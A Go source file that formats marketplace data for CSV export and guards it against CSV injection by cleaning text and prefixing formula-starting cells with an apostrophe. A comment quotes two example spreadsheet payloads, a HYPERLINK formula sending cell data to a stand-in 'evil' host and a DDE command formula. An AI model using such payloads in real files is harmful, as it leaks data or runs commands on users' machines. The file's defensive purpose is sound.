package export

import (
	"strconv"
	"strings"
	"time"

	"caigou/ui/sanitize"
	"caigou/xport"
)

// timeLayout is the CSV form of a time: what a Chinese client expects to
// read, and what Excel parses back into a date when it opens the file.
const timeLayout = "2006-01-02 15:04"

// cleanText is the one gate marketplace text passes on its way into a
// spreadsheet. A title is written by a stranger: control characters,
// escape sequences and bidi overrides in it would garble a cell, or a
// terminal when the same file is later shown by `cat`.
func cleanText(s string) string { return sanitize.Line(s) }

// formulaStart reports whether a spreadsheet would read s as a formula (or,
// for a leading apostrophe, eat its first character). A title such as
// =HYPERLINK("http://evil/?"&A1) or =cmd|'/c calc'!A1 runs in the client's
// Excel when a CSV is opened, so such cells are neutralised (OWASP's CSV
// injection advice: = + - @ tab CR).
//
// The apostrophe is on the list too, though it runs nothing: Excel treats a
// leading apostrophe as a "this is text" marker and hides it, so a title
// that really starts with one gets a second, and the reader strips exactly
// one. That keeps every text the same after a round trip.
func formulaStart(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r', '\'':
		return true
	}
	return false
}

// csvText is a Text or Identifier value as written to CSV: cleaned, then
// given a leading apostrophe if it would otherwise start a formula.
// cleanText already turns tabs and CRs into spaces and trims them, but the
// check runs on its result anyway so it does not depend on that.
func csvText(s string) string {
	s = cleanText(s)
	if formulaStart(s) {
		return "'" + s
	}
	return s
}

// csvUnquote undoes csvText's apostrophe when reading a CSV, showing the
// cell as Excel would.
func csvUnquote(s string) string {
	return strings.TrimPrefix(s, "'")
}

// yuan is the exact decimal for an amount in fen, "-0.05" for -5: the
// formatting is integer division, so no binary fraction is ever involved.
func yuan(fen int64) string { return xport.Fen(fen).Yuan() }

// chinaTime is t as a Chinese client reads it: 1688 and the client both
// live in UTC+8 whatever the agent's machine says.
func chinaTime(t time.Time) time.Time { return t.In(xport.ChinaTime()) }

// display is the text of a value as the client reads it, before any
// neutralising: what column widths are measured on, and what CSV writes for
// the kinds that need no escaping.
func (v Value) display() string {
	if !v.set {
		return ""
	}
	switch v.kind {
	case Text, Identifier:
		return cleanText(v.s)
	case Money:
		return yuan(v.n)
	case Int:
		return strconv.FormatInt(v.n, 10)
	case Time:
		return chinaTime(v.t).Format(timeLayout)
	}
	return ""
}
